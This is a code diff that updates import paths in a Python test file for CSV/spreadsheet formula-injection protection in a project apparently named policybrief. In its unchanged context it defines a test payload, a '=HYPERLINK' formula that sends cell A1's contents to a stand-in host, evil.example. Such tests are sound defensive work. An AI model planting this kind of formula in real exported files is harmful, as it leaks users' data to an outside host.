@@ -7,8 +7,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from policybrief.tables import FORMULA_STARTS, neutralised, read_rows, restored, write_rows
-from policybrief.validation.frames import read_table
+from policybrief.core.tables import FORMULA_STARTS, neutralised, read_rows, restored, write_rows
+from policybrief.validate.frames import read_table
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -106,6 +106,6 @@ def test_any_text_reads_back_as_written_and_no_cell_opens_as_a_formula(tmp_path_
 
 @given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12)))
 def test_numbers_are_written_as_numbers(number):
-    from policybrief.tables import format_value
+    from policybrief.core.tables import format_value
 
     assert neutralised(format_value(number)) == format_value(number)
